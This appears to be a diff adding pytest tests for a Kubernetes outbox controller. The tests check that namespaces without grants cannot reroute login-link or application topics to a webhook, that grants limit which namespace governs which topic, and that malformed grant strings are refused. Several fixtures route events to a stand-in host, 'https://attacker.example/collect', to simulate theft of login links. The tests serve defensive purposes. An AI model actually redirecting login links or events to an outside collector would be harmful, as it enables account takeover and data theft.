@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import datetime as dt
+import uuid
 from pathlib import Path
+from typing import Any
 
 import anyio
 import kmock
@@ -192,3 +194,108 @@ async def test_deleting_without_a_controller_leaves_nothing_stuck_and_the_entry_
 
 async def _entries(store: PostgresStore, n: int) -> bool:
     return len(await store.topics()) == n
+
+
+# -- who may govern what (grants) ---------------------------------------------------
+
+
+async def _reconcile(store: PostgresStore, namespace: str, spec: dict[str, Any], **kw: Any) -> Any:
+    from outbox.controller.handlers import BUILTIN_TOPICS
+    from outbox.controller.reconcile import reconcile
+
+    kinds = HandlerKinds(webhook=WebhookSettings(allow="https://attacker.example/")).mapping
+    return await reconcile(
+        store,
+        spec,
+        source=f"kubernetes:{namespace}/r-{spec['topic']}",
+        generation=1,
+        now=dt.datetime.now(dt.UTC),
+        lease=dt.timedelta(minutes=2),
+        builtin_topics=BUILTIN_TOPICS,
+        kinds=kinds,
+        **kw,
+    )
+
+
+def _message(outcome: object) -> str:
+    return str(outcome.status["conditions"][0]["message"])  # type: ignore[attr-defined]
+
+
+async def test_without_grants_no_resource_reroutes_a_built_in_or_application_topic(
+    pg_conninfo: str, pg_store: PostgresStore
+) -> None:
+    from outbox.store import RelayInfo
+
+    await migrate(pg_conninfo)
+    relay = RelayInfo(uuid.uuid4(), "pod-a", 7, "0.1.0", ("orders.placed",), ("log",))
+    await pg_store.register_relay(relay, dt.timedelta(minutes=1))
+    steal = {"handler": "webhook", "webhook": {"url": "https://attacker.example/collect"}}
+
+    # The sleeper: the chart's mail-login-link resource is gone, the tenant's is the oldest.
+    sleeper = await _reconcile(pg_store, "tenant-b", {"topic": LOGIN_LINK, **steal})
+    app = await _reconcile(pg_store, "tenant-b", {"topic": "orders.placed", **steal})
+    own = await _reconcile(pg_store, "tenant-b", {"topic": "tenant.events", **steal})
+
+    assert not sleeper.ready
+    assert "has a built-in or application handler" in _message(sleeper)
+    assert not app.ready
+    assert "needs a grant with :reroute" in _message(app)
+    assert own.ready  # a topic no handler serves: a kind is its only way out
+    assert set(await pg_store.topics()) == {"tenant.events"}
+
+
+async def test_with_grants_a_namespace_governs_only_its_granted_topics(
+    pg_conninfo: str, pg_store: PostgresStore
+) -> None:
+    from outbox.controller.grants import parse_grants
+
+    await migrate(pg_conninfo)
+    grants = parse_grants(
+        "outbox=mail.login_link, billing=billing.*, billing=mail.email_change:reroute"
+    )
+    steal = {"handler": "webhook", "webhook": {"url": "https://attacker.example/collect"}}
+
+    chart = await _reconcile(pg_store, "outbox", {"topic": LOGIN_LINK}, grants=grants)
+    tenant = await _reconcile(
+        pg_store, "tenant-b", {"topic": "billing.paid", **steal}, grants=grants
+    )
+    billing = await _reconcile(
+        pg_store, "billing", {"topic": "billing.paid", **steal}, grants=grants
+    )
+    reroute = await _reconcile(
+        pg_store, "billing", {"topic": "mail.email_change", **steal}, grants=grants
+    )
+
+    assert chart.ready
+    assert not tenant.ready
+    assert "namespace tenant-b is not granted topic billing.paid" in _message(tenant)
+    assert billing.ready
+    assert reroute.ready
+    assert set(await pg_store.topics()) == {LOGIN_LINK, "billing.paid", "mail.email_change"}
+
+
+async def test_an_operators_entry_is_a_conflict_not_silently_replaced(
+    pg_conninfo: str, pg_store: PostgresStore
+) -> None:
+    from outbox.store import TopicSettings
+
+    await migrate(pg_conninfo)
+    await pg_store.set_topic(TopicSettings("orders.placed", enabled=False, source="cli"))
+
+    outcome = await _reconcile(pg_store, "ns1", {"topic": "orders.placed", "handler": "log"})
+
+    assert not outcome.ready
+    assert "written by `outbox topics` (cli)" in _message(outcome)
+    entry = (await pg_store.topics())["orders.placed"]
+    assert (entry.source, entry.enabled) == ("cli", False)
+
+
+def test_grants_that_do_not_parse_are_refused() -> None:
+    import pytest
+
+    from outbox.controller.grants import parse_grants
+
+    for bad in ("outbox", "Outbox=mail.*", "outbox=mail.*:steal", "outbox=Mail"):
+        with pytest.raises(ValueError, match=r"outbox|Outbox"):
+            parse_grants(bad)
+    assert str(parse_grants("*=orders.*:reroute").items[0]) == "*=orders.*:reroute"
